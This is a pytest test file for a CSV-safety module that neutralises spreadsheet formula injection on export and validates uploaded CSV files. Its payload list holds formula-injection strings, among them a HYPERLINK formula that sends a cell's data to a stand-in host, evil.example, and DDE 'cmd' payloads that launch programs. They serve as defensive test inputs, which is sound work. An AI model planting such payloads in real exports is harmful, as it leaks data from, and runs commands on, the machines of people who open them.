"""Tests for lib.csvsafe (pure Python; no database or Django needed)."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.csvsafe import (
    FORMULA_TRIGGERS,
    UploadRow,
    iter_csv,
    neutralise,
    normalise_header,
    read_csv_upload,
    write_csv,
)

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",  # leading space: some spreadsheets trim it
    "\u00a0\u00a0@SUM(A1:A9)",
    "\uff1d1+1",  # full-width equals sign
    "=" + "A" * 100_000,
]

SAFE_TEXT = [
    "Alice Smith",
    "<script>alert('x')</script>",  # escaping is the template's job
    "a=b",
    "mentor@example.gov.uk",
    "Cost: -5",
    "",
    "'quoted already",
    "x" * 100_000,
    "Zoë Ångström",
    "line one\nline two",
    'He said "hi", then left',
]


# -- neutralise -------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_formula_payloads_are_prefixed_with_a_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_ordinary_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (0, "0"),
        (-5, "-5"),  # a real number is not a formula
        (-2.5, "-2.5"),
        (Decimal("-10.00"), "-10.00"),
        (True, "True"),
        (dt.date(2024, 5, 1), "2024-05-01"),
    ],
)
def test_non_strings(value, expected):
    assert neutralise(value) == expected


def test_non_string_objects_whose_text_is_a_formula_are_prefixed():
    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert neutralise(Sneaky()) == "'=1+1"
    assert neutralise("-5") == "'-5"  # strings are never trusted to be numbers


@settings(max_examples=300)
@given(st.text())
def test_neutralise_property(text):
    out = neutralise(text)
    assert out in (text, "'" + text)
    stripped = out.lstrip(" \u00a0\u3000")
    assert not stripped or stripped[0] not in FORMULA_TRIGGERS


# -- iter_csv / write_csv ---------------------------------------------------------------------


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_iter_csv_neutralises_every_cell_including_the_header():
    rows = [[payload, "ok", 3] for payload in FORMULA_PAYLOADS[:6]]
    data = b"".join(iter_csv(["=Name", "Status", "Count"], rows))
    parsed = parse(data)
    assert parsed[0] == ["'=Name", "Status", "Count"]
    for (payload, _, _), out in zip(rows, parsed[1:], strict=True):
        assert out == ["'" + payload, "ok", "3"]


def test_iter_csv_yields_one_encoded_line_per_row_with_crlf():
    lines = list(iter_csv(["a", "b"], [[1, 2], ["x", None]]))
    assert lines == [b"a,b\r\n", b"1,2\r\n", b"x,\r\n"]
    assert all(isinstance(line, bytes) for line in lines)


def test_iter_csv_bom_only_on_the_first_line():
    lines = list(iter_csv(["name"], [["Zoë"], ["Ågot"]], bom=True))
    assert lines[0].startswith(codecs.BOM_UTF8)
    assert not any(line.startswith(codecs.BOM_UTF8) for line in lines[1:])
    assert b"".join(lines).decode("utf-8-sig").splitlines() == ["name", "Zoë", "Ågot"]


def test_iter_csv_quotes_separators_quotes_and_newlines():
    tricky = ["a,b", 'say "hi"', "two\nlines", "<script>alert(1)</script>", "nul\0inside"]
    data = b"".join(iter_csv(["v"], [[t] for t in tricky]))
    assert [r[0] for r in parse(data)[1:]] == tricky


def test_iter_csv_accepts_mappings_in_header_order():
    rows = [{"email": "a@example.com", "name": "=evil()"}, {"name": "Bo"}]
    data = b"".join(iter_csv(["name", "email"], rows))
    assert parse(data) == [["name", "email"], ["'=evil()", "a@example.com"], ["Bo", ""]]


def test_iter_csv_is_lazy():
    consumed = []

    def rows():
        for i in range(3):
            consumed.append(i)
            yield [i]

    stream = iter_csv(["n"], rows())
    assert next(stream) == b"n\r\n"
    assert consumed == []
    assert next(stream) == b"0\r\n"
    assert consumed == [0]


def test_iter_csv_handles_very_long_values():
    long = "-" + "x" * 120_000
    data = b"".join(iter_csv(["v"], [[long]]))
    assert parse(data)[1] == ["'" + long]


def test_write_csv_to_binary_text_and_response_like_objects():
    rows = [["=1+1", "Zoë"], ["plain", 2]]
    raw = io.BytesIO()
    assert write_csv(rows, ["a", "b"], raw, bom=True) == 2
    assert raw.getvalue().startswith(codecs.BOM_UTF8)
    assert parse(raw.getvalue()) == [["a", "b"], ["'=1+1", "Zoë"], ["plain", "2"]]

    text = io.StringIO(newline="")
    assert write_csv(rows, ["a", "b"], text) == 2
    assert text.getvalue() == "a,b\r\n'=1+1,Zoë\r\nplain,2\r\n"

    class ResponseLike:  # e.g. django.http.HttpResponse: write(str), no mode attribute
        def __init__(self) -> None:
            self.parts: list[str] = []

        def write(self, content: str) -> None:
            assert isinstance(content, str)
            self.parts.append(content)

    response = ResponseLike()
    assert write_csv(iter(rows), ["a", "b"], response) == 2
    assert "".join(response.parts) == text.getvalue()


def test_write_csv_with_no_rows_writes_the_header():
    out = io.BytesIO()
    assert write_csv([], ["a"], out) == 0
    assert out.getvalue() == b"a\r\n"


# -- read_csv_upload --------------------------------------------------------------------------

REQUIRED = ("email", "full_name")
OPTIONAL = ("organisation",)


def read(data, max_bytes=10_000, required=REQUIRED, optional=OPTIONAL):
    return read_csv_upload(
        data, max_bytes=max_bytes, required_columns=required, optional_columns=optional
    )


def test_happy_path_with_messy_headers_and_cells():
    data = (
        b" Email ,Full Name,ORGANISATION,Notes\r\n"
        b"  a@example.gov.uk , Ann Able ,ONS,first\r\n"
        b"b@example.gov.uk,Bob Baker,,\r\n"
    )
    rows, errors = read(data)
    assert errors == []
    assert rows == [
        UploadRow(2, {"email": "a@example.gov.uk", "full_name": "Ann Able", "organisation": "ONS"}),
        UploadRow(3, {"email": "b@example.gov.uk", "full_name": "Bob Baker", "organisation": ""}),
    ]
    line, values = rows[0]  # unpacks like a tuple
    assert line == 2 and values["email"] == "a@example.gov.uk"


def test_optional_columns_default_to_empty_and_unknown_columns_are_dropped():
    rows, errors = read(
        b"full-name,e_mail,extra\nAnn,a@x.org,zzz\n", required=("e-mail", "full name")
    )
    assert errors == []
    assert rows == [UploadRow(2, {"e-mail": "a@x.org", "full name": "Ann", "organisation": ""})]


def test_line_numbers_count_blank_lines_and_treat_multiline_cells_as_one_row():
    data = b'email,full_name\na@x.org,Ann\n\n,\nb@x.org,"Bob\nBaker"\nc@x.org,Cy\n'
    rows, errors = read(data)
    assert errors == []
    assert [r.line for r in rows] == [2, 5, 6]
    assert rows[1].values["full_name"] == "Bob\nBaker"


def test_utf8_bom_is_accepted_and_not_part_of_the_first_header():
    data = codecs.BOM_UTF8 + "email,full_name\nzoë@x.org,Zoë Ångström\n".encode()
    rows, errors = read(data)
    assert errors == []
    assert rows[0].values == {
        "email": "zoë@x.org",
        "full_name": "Zoë Ångström",
        "organisation": "",
    }


def test_semicolon_and_tab_delimited_files():
    for sep in (b";", b"\t"):
        data = sep.join([b"email", b"full_name"]) + b"\n" + sep.join([b"a@x.org", b"Ann, A"])
        rows, errors = read(data + b"\n")
        assert errors == []
        assert rows[0].values["full_name"] == "Ann, A"


def test_comma_file_whose_values_contain_semicolons():
    data = b"email,full_name\na@x.org,Ann; Bob\nb@x.org,Cy; Di\n"
    rows, errors = read(data)
    assert errors == []
    assert [r.values["full_name"] for r in rows] == ["Ann; Bob", "Cy; Di"]


def test_single_column_file():
    rows, errors = read(b"Email\na@x.org\nb@x.org\n", required=("email",), optional=())
    assert errors == []
    assert [r.values for r in rows] == [{"email": "a@x.org"}, {"email": "b@x.org"}]


def test_hostile_values_are_returned_as_uploaded():
    # Import keeps what the user wrote; exports neutralise it, templates escape it.
    data = (
        b'email,full_name\nx@x.org,"=HYPERLINK(""http://evil.example"",""x"")"\n'
        b"y@x.org,<script>alert(1)</script>\n"
        b"z@x.org,@SUM(1+1)\n"
    )
    rows, errors = read(data)
    assert errors == []
    assert [r.values["full_name"] for r in rows] == [
        '=HYPERLINK("http://evil.example","x")',
        "<script>alert(1)</script>",
        "@SUM(1+1)",
    ]


def test_too_large_bytes():
    rows, errors = read(b"email,full_name\n" + b"a@x.org,Ann\n" * 2000, max_bytes=1024 * 1024 // 64)
    assert rows == []
    assert errors == [(None, "The file is too large (23 KB). The limit is 16 KB.")]


def test_too_large_file_object_is_not_read_past_the_limit():
    class Upload(io.BytesIO):
        reads: list[int] = []

        def read(self, size=-1):
            self.reads.append(size)
            return super().read(size)

    upload = Upload(b"x" * 5000)
    rows, errors = read(upload, max_bytes=1000)
    assert rows == []
    assert errors == [(None, "The file is too large. The limit is 1000 bytes.")]
    assert upload.reads == [1001]


def test_declared_size_is_checked_before_reading():
    class UploadedFile:  # like django.core.files.uploadedfile.UploadedFile
        size = 3 * 1024 * 1024

        def read(self, size=-1):
            raise AssertionError("should not be read")

    rows, errors = read(UploadedFile(), max_bytes=2 * 1024 * 1024)
    assert errors == [(None, "The file is too large (3.0 MB). The limit is 2.0 MB.")]


def test_file_object_within_limit():
    rows, errors = read(io.BytesIO(b"email,full_name\na@x.org,Ann\n"))
    assert errors == []
    assert rows[0].values["email"] == "a@x.org"


def test_exactly_at_the_limit_is_accepted():
    data = b"email,full_name\na@x.org,Ann\n"
    assert read(data, max_bytes=len(data))[1] == []
    assert read(io.BytesIO(data), max_bytes=len(data))[1] == []
    assert read(data, max_bytes=len(data) - 1)[0] == []


def test_nul_bytes_are_rejected_as_binary():
    rows, errors = read(b"email,full_name\na@x.org,Ann\nb@x.org,B\0b\n")
    assert rows == []
    assert errors == [
        (3, "The file contains binary data (a NUL byte), so it is not a CSV text file.")
    ]


def test_invalid_utf8_is_rejected_with_the_line():
    data = "email,full_name\na@x.org,Ann\nz@x.org,Zoë\n".encode("cp1252")
    rows, errors = read(data)
    assert rows == []
    assert len(errors) == 1
    line, message = errors[0]
    assert line == 3
    assert "not UTF-8" in message and "CSV UTF-8" in message


def test_excel_workbook_and_utf16_get_specific_messages():
    for data in (b"PK\x03\x04\x14\x00\x06\x00rest-of-zip", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
        rows, errors = read(data)
        assert rows == [] and "Excel workbook" in errors[0][1]
    rows, errors = read(codecs.BOM_UTF16_LE + "email,full_name\n".encode("utf-16-le"))
    assert rows == [] and "UTF-16" in errors[0][1]


@pytest.mark.parametrize("data", [b"", b"   \r\n\n", codecs.BOM_UTF8, codecs.BOM_UTF8 + b"\n"])
def test_empty_file(data):
    assert read(data) == ([], [(None, "The file is empty.")])


def test_header_only():
    assert read(b"email,full_name\r\n") == (
        [],
        [(None, "The file has a header row but no data rows.")],
    )
    assert read(b"email,full_name\n\n,\n")[1] == [
        (None, "The file has a header row but no data rows.")
    ]


def test_missing_columns_are_named():
    rows, errors = read(b"email,name\na@x.org,Ann\n")
    assert rows == []
    assert len(errors) == 1
    assert errors[0][0] == 1
    assert "missing the required column “full_name”" in errors[0][1]

    rows, errors = read(b"foo,bar\n1,2\n")
    assert "columns “email”, “full_name”" in errors[0][1]


def test_prose_is_not_a_csv():
    text = b"Dear coordinator,\nplease find attached the list of mentees.\nThanks\n"
    rows, errors = read(text)
    assert rows == []
    assert errors[0][0] == 1 and "missing the required columns" in errors[0][1]


def test_header_on_a_later_line_after_blank_lines():
    rows, errors = read(b"\n\nemail,full_name\na@x.org,Ann\n")
    assert errors == []
    assert rows == [UploadRow(4, {"email": "a@x.org", "full_name": "Ann", "organisation": ""})]


def test_duplicate_header_columns():
    rows, errors = read(b"email,Email,full_name\na,b,c\n")
    assert rows == []
    assert errors == [(1, "The column “email” appears more than once in the header.")]


def test_too_many_fields_is_reported_and_other_rows_kept():
    data = b"email,full_name\na@x.org,Ann\nb@x.org,Baker, Bob\nc@x.org,Cy,,\n"
    rows, errors = read(data)
    assert [r.line for r in rows] == [2, 4]  # trailing empty cells (Excel) are fine
    assert errors == [
        (
            3,
            "This row has 3 values but the header has 2 columns. "
            "Check for unquoted commas inside a value.",
        )
    ]


def test_short_rows_are_padded():
    rows, errors = read(b"email,full_name,organisation\na@x.org\n")
    assert errors == []
    assert rows[0].values == {"email": "a@x.org", "full_name": "", "organisation": ""}


def test_value_longer_than_the_csv_field_limit():
    long = b"x" * (csv.field_size_limit() + 10)
    data = b"email,full_name\na@x.org,Ann\nb@x.org," + long + b"\nc@x.org,Cy\n"
    rows, errors = read(data, max_bytes=len(data))
    assert [r.line for r in rows] == [2]
    assert errors[0][0] == 3
    assert "too long" in errors[0][1]


def test_long_values_within_the_limit_are_fine():
    long = "y" * 100_000
    rows, errors = read(f"email,full_name\na@x.org,{long}\n".encode(), max_bytes=200_000)
    assert errors == []
    assert rows[0].values["full_name"] == long


def test_crlf_and_cr_only_line_endings():
    for eol in (b"\r\n", b"\r"):
        rows, errors = read(eol.join([b"email,full_name", b"a@x.org,Ann", b"b@x.org,Bo"]))
        assert errors == []
        assert [r.line for r in rows] == [2, 3]


def test_text_and_str_sources():
    rows, errors = read("email,full_name\na@x.org,Ann\n")
    assert errors == [] and rows[0].values["full_name"] == "Ann"
    rows, errors = read(io.StringIO("email,full_name\na@x.org,Ann\n"))
    assert errors == [] and rows[0].values["full_name"] == "Ann"


def test_export_then_import_round_trip():
    out = io.BytesIO()
    write_csv([["a@x.org", "Ann Able"], ["b@x.org", "Zoë"]], ["Email", "Full name"], out, bom=True)
    rows, errors = read(out.getvalue())
    assert errors == []
    assert [r.values["full_name"] for r in rows] == ["Ann Able", "Zoë"]


def test_normalise_header():
    assert normalise_header(" E-mail  Address ") == normalise_header("email_address")
    assert normalise_header("\ufeffEmail") == "email"


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_arbitrary_bytes_never_raise(data):
    rows, errors = read(data, max_bytes=300)
    assert isinstance(rows, list) and isinstance(errors, list)
    assert rows or errors
    for line, message in errors:
        assert line is None or line >= 1
        assert isinstance(message, str) and message


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.text(max_size=30), st.text(max_size=30)).filter(
            lambda r: "\0" not in r[0] + r[1]
        ),
        max_size=8,
    )
)
def test_round_trip_of_arbitrary_text(rows):
    out = io.BytesIO()
    write_csv(rows, ["email", "full_name"], out)
    parsed, errors = read(out.getvalue(), max_bytes=100_000)
    kept = [r for r in rows if any(neutralise(c).strip() for c in r)]
    if not kept:
        assert errors == [(None, "The file has a header row but no data rows.")]
        return
    assert errors == []
    assert [(r.values["email"], r.values["full_name"]) for r in parsed] == [
        (neutralise(a).strip(), neutralise(b).strip()) for a, b in kept
    ]
